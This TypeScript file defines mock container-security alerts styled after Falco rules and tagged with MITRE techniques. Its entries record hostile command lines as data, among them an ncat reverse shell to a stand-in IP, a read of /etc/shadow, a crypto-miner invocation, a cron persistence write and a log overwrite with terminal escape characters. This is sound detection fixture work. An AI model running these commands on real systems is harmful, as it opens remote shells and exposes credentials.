import { policies, type Rule } from './rule.ts';

const falco = {
  scope: 'container',
  originator: 'policy',
  category: 'runtime',
  source: 'syscall',
  ruleType: 6,
} as const;
const tagged = (...tags: readonly string[]) => ({ tags: ['container', 'MITRE', ...tags] });
const as = (exe: string, cmdline: string, parent = 'bash', user = 'root') => ({
  program: { exe, cmdline, parent, user },
});

/** The rules that watch what processes in containers do. */
export const containerRules: readonly Rule[] = [
  {
    ...{ ...falco, ...policies.notable, name: 'Terminal shell in container', severity: 4 },
    ...{ weight: 10, ...as('/bin/bash', 'bash', 'runc') },
    ...tagged('MITRE_TA0002_execution', 'MITRE_T1059_command_and_scripting_interpreter'),
  },
  {
    ...{ ...falco, ...policies.threat, severity: 3, weight: 6 },
    name: 'Launch Package Management Process in Container',
    ...as('/usr/bin/apt-get', 'apt-get install -y ncat curl'),
    ...tagged('MITRE_TA0003_persistence', 'MITRE_T1072_software_deployment_tools'),
  },
  {
    ...{ ...falco, ...policies.threat, severity: 2, weight: 3 },
    name: 'Outbound Connection to C2 Servers',
    ...as('/usr/bin/ncat', 'ncat 203.0.113.66 4444 -e /bin/bash'),
    connection: { domain: 'cdn.update-check.example', address: '203.0.113.66', port: 4444 },
    ...tagged('MITRE_TA0011_command_and_control', 'MITRE_T1071_application_layer_protocol'),
  },
  {
    ...{ ...falco, ...policies.notable, severity: 5, weight: 5, action: 'capture' },
    name: 'Redirect STDOUT/STDIN to Network Connection in Container',
    ...as('/bin/sh', 'sh -i', 'java', 'app'),
    connection: { domain: null, address: '198.51.100.23', port: 8080 },
    ...tagged('MITRE_TA0010_exfiltration', 'MITRE_T1059_command_and_scripting_interpreter'),
  },
  {
    ...{ ...falco, ...policies.notable, name: 'Write below etc', severity: 4, weight: 6 },
    ...as('/usr/bin/tee', 'tee /etc/cron.d/upd'),
    file: { path: '/etc/cron.d/upd', permissions: 'w' },
    ...tagged('MITRE_TA0003_persistence', 'MITRE_T1053_scheduled_task_job'),
  },
  {
    ...{ ...falco, ...policies.threat, severity: 1, weight: 2, action: 'container_killed' },
    name: 'Detect crypto miners using the Stratum protocol',
    ...as('/tmp/.x/kworkerd', '/tmp/.x/kworkerd -o stratum+tcp://pool.example:3333 -u "acme"'),
    connection: { domain: 'pool.example', address: '203.0.113.99', port: 3333 },
    ...tagged('MITRE_TA0040_impact', 'MITRE_T1496_resource_hijacking'),
  },
  {
    ...{ ...falco, ...policies.drift, ruleType: 7, severity: 3, weight: 3 },
    ...{ name: 'Binary Drift Detected', action: 'drift_prevented' },
    ...as('/tmp/.x/kworkerd', '/tmp/.x/kworkerd --version'),
    file: { path: '/tmp/.x/kworkerd', permissions: 'w' },
    ...tagged('MITRE_TA0005_defense_evasion', 'MITRE_T1036_masquerading'),
  },
  {
    ...{ ...falco, ...policies.malware, ruleType: 8, severity: 0, weight: 1 },
    ...{ name: 'Malware Detected', action: 'malware_prevented' },
    ...as('/tmp/.x/dropper', '/tmp/.x/dropper', 'sh'),
    file: { path: '/tmp/.x/dropper', permissions: 'r' },
    ...tagged('MITRE_TA0002_execution', 'MITRE_T1204_user_execution'),
  },
  {
    ...{ ...falco, ...policies.threat, severity: 4, weight: 6 },
    name: 'Read sensitive file untrusted',
    ...as('/usr/bin/cat', 'cat /etc/shadow'),
    file: { path: '/etc/shadow', permissions: 'r' },
    ...tagged('MITRE_TA0006_credential_access', 'MITRE_T1555_credentials_from_password_stores'),
  },
  {
    ...{ ...falco, ...policies.activity, severity: 6, weight: 14 },
    name: 'Contact K8S API Server From Container',
    ...as('/usr/bin/curl', 'curl -sk https://10.96.0.1/api/v1/namespaces', 'sh', 'app'),
    connection: { domain: 'kubernetes.default.svc', address: '10.96.0.1', port: 443 },
    ...tagged('MITRE_TA0007_discovery', 'MITRE_T1613_container_and_resource_discovery'),
  },
  {
    ...{ ...falco, ...policies.activity, severity: 7, weight: 20 },
    name: 'User Management Event Detected',
    ...as('/usr/sbin/userdel', 'userdel tmp_suid_user', 'pwsh'),
    ...tagged('MITRE_TA0003_persistence', 'MITRE_T1136_create_account'),
  },
  {
    // What an attacker types is told as it was typed.
    ...{ ...falco, ...policies.notable, severity: 5, weight: 3, name: 'Clear Log Activities' },
    ...as(
      '/bin/sh',
      'sh -c "printf \'\u001b[2J\u001b[31mall clear\u001b[0m\n\u202e\' > /var/log/app.log"',
    ),
    file: { path: '/var/log/app.log', permissions: 'w' },
    ...tagged('MITRE_TA0005_defense_evasion', 'MITRE_T1070_indicator_removal'),
  },
  {
    ...{ ...falco, ...policies.threat, severity: 3, weight: 3 },
    name: 'Packet socket created in container',
    ...as('/usr/sbin/tcpdump', 'tcpdump -v -l -n -i eth1 ip proto 112', 'keepalived'),
    ...tagged('MITRE_TA0007_discovery', 'MITRE_T1040_network_sniffing'),
    fields: { 'evt.args': 'domain=17(AF_PACKET) type=3 proto=0 ' },
  },
  {
    ...{
      ...falco,
      ...policies.threat,
      severity: 3,
      weight: 2,
      name: 'Possible Backdoor using BPF',
    },
    ...as('/usr/sbin/tuned', 'tuned -Es /usr/sbin/tuned', 'systemd'),
    ...tagged('MITRE_TA0003_persistence', 'MITRE_T1205_traffic_signaling'),
  },
  {
    ...{
      ...falco,
      ...policies.notable,
      severity: 6,
      weight: 4,
      name: 'Unexpected spawned process',
    },
    ...{ originator: 'profilingDetection', source: 'profiling' },
    ...as('/usr/bin/id', 'id -u', 'sh', 'app'),
    ...tagged('MITRE_TA0007_discovery', 'MITRE_T1033_system_owner_user_discovery'),
  },
  {
    ...{ ...falco, ...policies.threat, severity: 5, weight: 2, category: 'simulation' },
    ...{ name: 'Run shell untrusted', ...as('/bin/sh', 'sh -c id', 'node', 'node') },
    ...tagged('MITRE_TA0002_execution', 'MITRE_T1059.004_unix_shell'),
  },
];
